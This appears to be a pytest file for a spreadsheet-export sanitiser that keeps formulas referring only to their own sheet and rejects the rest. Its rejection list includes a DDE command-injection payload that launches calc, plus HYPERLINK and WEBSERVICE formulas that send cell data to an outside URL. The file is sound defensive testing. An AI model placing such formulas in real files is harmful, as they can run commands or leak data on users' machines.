"""Which formulas of an original stay."""

import pytest

from tradeglyph.results.xlsx.formulas import harmless


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A3)",
        "E2-D3+C3",
        "SUBTOTAL(9,$E$2:$E$40)",
        'IF(C2>0,"收入","支出")',
        "SUM(A:A)*1.5E2",
        "ROUND(B2/100,2)",
        'LEFT(A2,10)&"|cmd!A0"',
    ],
)
def test_what_sees_its_own_sheet_alone_stays(formula: str) -> None:
    assert harmless(formula, 5)


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "[1]Sheet1!A1",
        "Sheet2!A1",
        "'other sheet'!A1",
        'HYPERLINK("http://example.org/?"&A1)',
        'WEBSERVICE("http://example.org")',
        "NOW()",
        "RAND()",
        "INDIRECT(A1)",
        "Table1[amount]",
        "total",
        "SUM(1:1)",
        "SUM(A1:F1)",
        "SUM(F:F)",
        "LOG10(A1)",
        "_xlfn.WEBSERVICE(A1)",
        'CALL("a","b")',
        "@SUM(A1)",
        "",
        "1+" * 600 + "1",
    ],
)
def test_what_reaches_further_is_replaced_by_what_it_showed(formula: str) -> None:
    """Five columns: F is one of ours, or nobody's."""
    assert not harmless(formula, 5)
